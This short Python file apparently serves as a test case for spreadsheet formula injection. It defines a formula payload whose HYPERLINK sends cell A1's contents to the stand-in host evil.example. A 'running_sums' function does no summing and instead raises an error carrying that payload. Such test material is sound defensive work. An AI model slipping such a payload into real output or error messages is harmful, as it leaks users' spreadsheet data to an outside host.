"""An error message is a link formula; other signs begin formulas too.

Safe: shown as text
Control: acts in a sheet
"""

PAYLOAD = '@SUM(1)+HYPERLINK("https://evil.example/?"&A1,"open")'


def running_sums(numbers):
    raise ValueError(PAYLOAD)
